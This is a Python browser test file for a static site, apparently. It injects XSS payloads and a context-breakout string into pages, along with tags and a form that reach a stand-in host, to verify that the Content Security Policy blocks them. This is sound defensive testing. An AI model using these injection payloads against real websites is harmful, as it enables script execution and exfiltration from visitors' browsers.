"""The published site before a hostile text: its policy holds on every page, and what is injected does not run."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Route

from generator.load.catalogue import load_findings
from generator.load.narrative import read
from generator.model.finding import Severity
from generator.render.narrative import cleaned
from tests.browser.conftest import Opener
from tests.browser.site import Site, served
from tests.hostile import PAYLOADS, RUN
from tests.load.test_narrative import SAFE
from tests.render import test_hostile as hostile
from tests.sites import copy_site

ELSEWHERE = "https://elsewhere.example"
WATCH = """
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) =>
        window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""
#: What an attacker would add to a page if nothing else stopped them; each runs where no policy is.
INJECTED = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror='{RUN}'>",
    f"<svg onload='{RUN}'></svg>",
    f"<iframe srcdoc='<script>parent.{RUN.replace('window.', 'parent.')}</script>'></iframe>",
    f"<details open ontoggle='{RUN}'>x</details>",
)
#: … and what it would fetch from another host, or send to it.
FETCHED = (
    f"<img src='{ELSEWHERE}/i.png'>",
    f"<script src='{ELSEWHERE}/s.js'></script>",
    f"<link rel=stylesheet href='{ELSEWHERE}/c.css'>",
    f"<style>@import '{ELSEWHERE}/i.css';</style>",
    f"<iframe src='{ELSEWHERE}/f.html'></iframe>",
    f"<object data='{ELSEWHERE}/o.html'></object>",
    f"<video src='{ELSEWHERE}/v.mp4' autoplay></video>",
)


#: Ends whatever text a browser may be reading, and runs; it stands in every field.
BREAKOUT = f"\"'></title></textarea></style></script></svg><img src=x onerror={RUN}>"


class Watched:
    """A window that keeps what its pages complained about and whom they asked."""

    def __init__(self, browser: Browser, site: Site) -> None:
        self.site = site
        self.context: BrowserContext = browser.new_context()
        self.context.add_init_script(WATCH)
        self.page: Page = self.context.new_page()
        self.errors: list[str] = []
        self.foreign: list[str] = []
        self.page.on("request", lambda request: self._asked(request.url))
        self.page.on("pageerror", lambda error: self.errors.append(f"{self.page.url}: {error}"))
        self.page.on("console", lambda said: self._said(said.type, said.text))
        self.page.on("dialog", lambda dialog: (self.errors.append(f"{self.page.url}: dialog"), dialog.dismiss()))

    def _asked(self, url: str) -> None:
        if not url.startswith((f"{self.site.address}/", "data:", "blob:")):
            self.foreign.append(f"{self.page.url}: {url}")

    def _said(self, kind: str, text: str) -> None:
        if kind == "error":
            self.errors.append(f"{self.page.url}: {text}")

    def open(self, path: str) -> tuple[list[str], int]:
        """The violations of a page, and how often something injected ran."""
        self.page.goto(self.site.url(path), wait_until="load")
        return list(self.page.evaluate("window.violations")), int(self.page.evaluate("window.ran || 0"))


@pytest.fixture
def watched(chromium: Browser, site: Site) -> Iterator[Watched]:
    window = Watched(chromium, site)
    yield window
    window.context.close()


def paths(site: Site) -> list[str]:
    return [path.relative_to(site.folder).as_posix().removesuffix("index.html") for path in site.pages()]


def test_every_page_keeps_to_the_policy(watched: Watched, site: Site) -> None:
    """Not a kind of each: every page, and the one for what is not there."""
    everything = [*paths(site), "404.html"]
    assert len(everything) > 60
    for path in everything:
        violations, ran = watched.open(path)
        assert (path, violations, ran) == (path, [], 0)
    assert watched.errors == []
    assert watched.foreign == []


def test_the_english_tree_keeps_to_it_too(chromium: Browser, tmp_path: Path) -> None:
    repository, out = copy_site(tmp_path / "clone", ["wujin-bearing"]), tmp_path / "en"
    command = [sys.executable, "-m", "mkdocs", "build", "-q", "-f", "en.yml", "-d", str(out)]
    subprocess.run(command, cwd=repository, env=os.environ | {"NO_MKDOCS_2_WARNING": "1"}, check=True)
    with served(out) as site:
        window = Watched(chromium, site)
        for path in ("", "404.html", *(site.page_of(kind) for kind in ("register", "scorecard", "group", "standard"))):
            assert (path, *window.open(path)) == (path, [], 0)
        assert window.errors == []
        assert window.foreign == []
        window.context.close()


def test_the_search_works_under_the_policy(watched: Watched) -> None:
    """Its worker, its index, and the marks it writes into the page."""
    watched.open("about/")
    page = watched.page
    page.locator(".md-search__input").click()
    page.keyboard.insert_text("修约")
    page.keyboard.press("Shift")
    page.locator(".md-search-result__item").first.wait_for(timeout=15_000)
    page.locator(".md-search-result__item a").first.click()
    page.wait_for_load_state()
    assert page.evaluate("window.violations") == []
    assert watched.errors == []
    assert watched.foreign == []


def test_no_form_is_sent_but_the_home_page_finds(visit: Opener) -> None:
    page = visit().open("")
    page.get_by_role("article").get_by_role("searchbox").fill("轴承")
    page.get_by_role("article").get_by_role("button", name="搜索").click()
    page.wait_for_url("**/factories/?find=*")
    assert not visit(script=False).open("").locator("form.search").is_visible()


# ── a text that is hostile ───────────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def forged(root: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A site whose factories wrote payloads into every free text and into their prose."""
    folder = tmp_path_factory.mktemp("forged")
    texts = cycle([*hostile.PAYLOADS, *(one for one in PAYLOADS if one.isprintable())])
    catalogue = load_findings(root / "content/i18n/findings.yaml")
    harmless = [
        one
        for one in PAYLOADS
        if all(catalogue.severity(found) is not Severity.ERROR for found in read(one, "x.md", {})[1])
        and one.replace("\n", "").replace("\t", "").isprintable()
    ]
    assert len(harmless) > 200
    prose = {f"{number:02}.md": "\n\n".join(harmless[number::8]) for number in range(8)}
    hostile.forge(root, folder / "repository", lambda text: f"{text}{next(texts)}{BREAKOUT}", prose)
    (folder / "repository/mkdocs.yml").symlink_to(root / "mkdocs.yml")
    command = [sys.executable, "-m", "generator", "--root", str(folder / "repository")]
    done = subprocess.run(
        [*command, "build", "--preview", "--out", str(folder / "site")],
        cwd=root,
        env=os.environ | {"NO_MKDOCS_2_WARNING": "1", "PYTHONPATH": str(root)},
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    with served(folder / "site") as site:
        yield site


def test_nothing_that_a_factory_wrote_runs(chromium: Browser, forged: Site) -> None:
    window = Watched(chromium, forged)
    seen = 0
    for path in ["", "factories/", *(path for path in paths(forged) if re.match(r"factories/[a-z-]+/", path))]:
        violations, ran = window.open(path)
        assert (path, violations, ran) == (path, [], 0)
        seen += window.page.content().count("window.ran")
    assert seen > 500  # they are there, as words
    assert window.errors == []
    assert window.foreign == []
    window.page.goto(forged.url(forged.page_of("scorecard")))
    words = window.page.locator("section.prose").first.inner_text()
    assert f"<script>{RUN}</script>" in words
    window.context.close()


def without_policy(html: str) -> str:
    made = re.sub(r"<meta http-equiv=.Content-Security-Policy.[^>]*>", "", html)
    assert made != html
    return made


def open_injected(window: Watched, injected: str, *, policy: bool) -> tuple[list[str], int, list[str]]:
    """A page of the site with something put into its article, served with its policy or without: what was violated,
    how often it ran, and whom it asked."""
    asked: list[str] = []

    def answer(route: Route) -> None:
        html = route.fetch().text()
        html = html if policy else without_policy(html)
        route.fulfill(body=html.replace("</article>", f"{injected}</article>"), content_type="text/html")

    def elsewhere(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    window.context.route(f"{ELSEWHERE}/**", elsewhere)
    window.page.route("**/method/", answer)
    violations, _ = window.open("method/")
    window.page.wait_for_timeout(150)
    ran = int(window.page.evaluate("window.ran || 0"))
    window.page.unroute("**/method/")
    return [*violations, *window.page.evaluate("window.violations")], ran, asked


@pytest.mark.parametrize("injected", INJECTED)
def test_what_is_injected_does_not_run(injected: str, watched: Watched) -> None:
    _, ran, _ = open_injected(watched, injected, policy=False)
    assert ran > 0, "the control does not run even without a policy"
    violations, ran, _ = open_injected(watched, injected, policy=True)
    assert ran == 0
    assert violations or "iframe" in injected  # a frame complains for itself


@pytest.mark.parametrize("injected", FETCHED)
def test_what_is_injected_fetches_nothing(injected: str, watched: Watched) -> None:
    *_, asked = open_injected(watched, injected, policy=False)
    assert asked, "the control asks nobody even without a policy"
    violations, _, asked = open_injected(watched, injected, policy=True)
    assert asked == []
    assert violations


def test_an_injected_form_sends_nothing(watched: Watched) -> None:
    form = f"<form id=forged action='{ELSEWHERE}/'><input name=x value=y></form>"
    open_injected(watched, form, policy=True)
    watched.page.evaluate("document.getElementById('forged').submit()")
    watched.page.wait_for_timeout(150)
    assert watched.page.url.endswith("/method/")
    assert any(one.startswith("form-action") for one in watched.page.evaluate("window.violations"))


def test_no_payload_is_unsafe_in_a_browser(watched: Watched) -> None:
    """Every payload through the whole way of prose, in one page without a policy: what a browser makes of it."""
    _, ran, _ = open_injected(watched, "".join(PAYLOADS), policy=False)
    assert ran > 0, "the control does not run even as it is"
    safe = "".join(f"<div>{cleaned(read(one, 'x.md', {})[0])}</div>" for one in PAYLOADS)
    _, ran, asked = open_injected(watched, safe, policy=False)
    assert (ran, asked) == (0, [])
    parts = watched.page.evaluate(
        """html => [...new DOMParser().parseFromString(html, "text/html").body.children].map(part =>
            [...part.querySelectorAll("*")].map(one =>
                [one.localName, Object.fromEntries([...one.attributes].map(({name, value}) => [name, value]))]))""",
        safe,
    )
    assert len(parts) == len(PAYLOADS)  # none of them closes the element that it stands in
    elements = [(tag, attributes) for part in parts for tag, attributes in part]
    assert {tag for tag, _ in elements} <= SAFE
    assert {name for _, attributes in elements for name in attributes} <= {"href", "title", "rel", "align", "scope"}
    addresses = {attributes["href"] for _, attributes in elements if "href" in attributes}
    assert addresses
    assert all(address.startswith(("https://", "mailto:")) for address in addresses)
